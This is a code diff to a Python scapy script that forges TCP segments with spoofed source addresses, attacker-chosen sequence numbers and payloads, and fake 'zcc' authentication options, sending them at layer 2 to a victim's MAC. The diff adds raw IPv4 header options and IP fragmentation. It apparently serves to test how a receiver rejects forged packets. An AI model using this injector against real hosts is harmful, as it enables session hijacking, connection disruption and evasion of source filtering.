@@ -4,11 +4,16 @@
     inject.py --dst-mac MAC --src 10.0.0.1 --dst 10.0.0.2 --sport S --dport D
               --seq N [--ack N] [--flags PA] [--payload EVIL]
               [--ts TSVAL,TSECR] [--zcc [--keyid K]] [--iface eth0]
+              [--ip-options HEX] [--fragsize N]
 
 The frame goes out at layer 2 (scapy sendp) straight to the victim's MAC,
 so the spoofed source address never meets C's own routing or rp_filter.
 --zcc appends a zcc option (kind 253, length 16, ExID 0x7a63, key id,
 11 random tag bytes) as the last option, as a forger would.
+--ip-options puts those bytes (hex, padded with EOL to 4) into the IPv4
+header as options, so its IHL is above 5 ("01010100": NOP NOP NOP EOL,
+"94040000": router alert). --fragsize N sends the IP packet as fragments
+of N payload bytes each (a multiple of 8; scapy's fragment()).
 """
 
 import argparse
@@ -16,7 +21,8 @@ import logging
 import os
 
 logging.getLogger("scapy.runtime").setLevel(logging.ERROR)
-from scapy.all import IP, TCP, Ether, Raw, conf, get_if_hwaddr, sendp  # noqa: E402
+from scapy.all import (IP, TCP, Ether, IPOption, Raw, conf,  # noqa: E402
+                       fragment, get_if_hwaddr, sendp)
 
 
 def main():
@@ -35,6 +41,8 @@ def main():
     ap.add_argument("--zcc", action="store_true", help="add a fake zcc option")
     ap.add_argument("--keyid", type=int, default=0)
     ap.add_argument("--count", type=int, default=1)
+    ap.add_argument("--ip-options", help="IPv4 header options, hex")
+    ap.add_argument("--fragsize", type=int, help="send as IP fragments")
     a = ap.parse_args()
 
     opts = []
@@ -45,17 +53,32 @@ def main():
         opts.append((253, b"\x7a\x63" + bytes([a.keyid]) + os.urandom(11)))
     tcp = TCP(sport=a.sport, dport=a.dport, seq=a.seq, ack=a.ack,
               flags=a.flags, window=502, options=opts)
-    pkt = Ether(dst=a.dst_mac, src=get_if_hwaddr(a.iface)) / \
-        IP(src=a.src, dst=a.dst, ttl=64) / tcp
+    ipopts = []
+    if a.ip_options:
+        raw = bytes.fromhex(a.ip_options)
+        ipopts = [IPOption(raw + b"\0" * (-len(raw) % 4))]
+    eth = Ether(dst=a.dst_mac, src=get_if_hwaddr(a.iface))
+    pkt = eth / IP(src=a.src, dst=a.dst, ttl=64, options=ipopts) / tcp
     if a.payload:
         pkt = pkt / Raw(a.payload.encode())
     pkt = Ether(bytes(pkt))         # fill in lengths and checksums now
     conf.verb = 0
-    sendp(pkt, iface=a.iface, count=a.count)
+    if a.fragsize:
+        frames = [Ether(bytes(eth / f)) for f in fragment(pkt[IP], fragsize=a.fragsize)]
+        for _ in range(a.count):
+            sendp(frames, iface=a.iface)
+        print("sent as %d IP fragments: %s" % (len(frames), ", ".join(
+            "offset %d len %d%s" % (f[IP].frag * 8, len(f[IP].payload),
+                                     " MF" if f[IP].flags.MF else "")
+            for f in frames)))
+    else:
+        sendp(pkt, iface=a.iface, count=a.count)
     t = pkt[TCP]
-    print("injected %s:%d > %s:%d flags %s seq %d ack %d len %d options %s" % (
+    print("injected %s:%d > %s:%d flags %s seq %d ack %d len %d options %s%s" % (
         a.src, a.sport, a.dst, a.dport, t.sprintf("%flags%"), t.seq, t.ack,
-        len(a.payload), bytes(t)[20:t.dataofs * 4].hex() or "-"))
+        len(a.payload), bytes(t)[20:t.dataofs * 4].hex() or "-",
+        " ip-options %s (ihl %d)" % (bytes(pkt[IP])[20:pkt[IP].ihl * 4].hex(),
+                                     pkt[IP].ihl) if ipopts else ""))
 
 
 if __name__ == "__main__":
